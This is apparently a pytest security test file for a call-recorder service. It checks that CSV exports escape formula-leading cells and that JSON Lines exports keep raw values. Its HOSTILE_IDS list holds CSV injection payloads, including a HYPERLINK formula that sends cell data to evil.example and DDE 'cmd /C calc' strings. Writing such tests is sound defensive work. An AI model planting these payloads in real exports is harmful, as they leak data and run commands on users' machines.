"""CSV exports cannot carry a formula into a spreadsheet: a cell starting with = + - @ tab or CR gets a
leading apostrophe (OWASP's CSV injection advice), through the API and the console alike; JSON Lines stay
raw."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from recorder.db.repositories.access import ConsoleSessionRepository, KeyRepository
from recorder.domain import effects as fx
from recorder.domain import events as ev
from recorder.services.calls.consent_flow import IncomingCall
from recorder.services.tokens import console_sessions
from recorder.services.tokens.api_keys import Role, create_key
from tests.integration.compliance_world import NumberedAcs
from tests.integration.test_call_service_db import drain
from tests.security.jwks import Jwks
from tests.security.world import World, make_world

HOSTILE_IDS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SERVER_CALL = "=1+1"


@pytest.fixture
def world(database_url: str, jwks: Jwks) -> Iterator[World]:
    w = make_world(database_url, jwks, acs=NumberedAcs())
    calls, now = w.container.calls, datetime.now(UTC)
    _, call_id = calls.incoming_call(IncomingCall("eg-1", SERVER_CALL, "ctx", HOSTILE_IDS[0], None, None))
    assert call_id is not None
    drain(w.container.dispatcher)
    calls.apply(call_id, "c1", "CallConnected", ev.CallConnected(now, "conn-1"))
    calls.apply(call_id, "p1", "ParticipantsUpdated", ev.ParticipantsUpdated(now, 1, tuple(HOSTILE_IDS)))
    drain(w.container.dispatcher)
    for i, who in enumerate(HOSTILE_IDS):
        answer = ev.RecognizeCompleted(now, fx.consent_context(who, 1), ("two",))
        calls.apply(call_id, f"r{i}", "RecognizeCompleted", answer)
    yield w
    w.close()


def auditor(world: World) -> tuple[str, str]:
    with world.container.sessions() as session:
        key_id, key = create_key(KeyRepository(session), Role.AUDITOR, "csv", datetime.now(UTC))
        session.commit()
    return key_id, key


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_formula_cells_are_escaped_in_the_api_and_console_csv(world: World) -> None:
    key_id, key = auditor(world)
    api = world.request("GET", "/api/consents/export", headers={"Authorization": f"Bearer {key}"})
    with world.container.sessions() as session:
        token = console_sessions.open_session(ConsoleSessionRepository(session), key_id, datetime.now(UTC))
        session.commit()
    console = world.request("GET", "/console/export", headers={"Cookie": f"recorder_console={token}"})
    for response in (api, console):
        assert response.status_code == 200, response.text
        rows = cells(response.text)
        assert sorted(r["participant"] for r in rows) == sorted("'" + who for who in HOSTILE_IDS)
        assert {r["server_call_id"] for r in rows} == {"'" + SERVER_CALL}
        for row in rows:
            for value in row.values():
                assert not value or value[0] not in "=+-@\t\r", row


def test_json_lines_keep_the_values_as_they_are(world: World) -> None:
    _, key = auditor(world)
    response = world.request(
        "GET", "/api/consents/export", params={"format": "jsonl"}, headers={"Authorization": f"Bearer {key}"}
    )
    rows = [json.loads(line) for line in response.text.splitlines()]
    assert sorted(r["participant"] for r in rows) == sorted(HOSTILE_IDS)
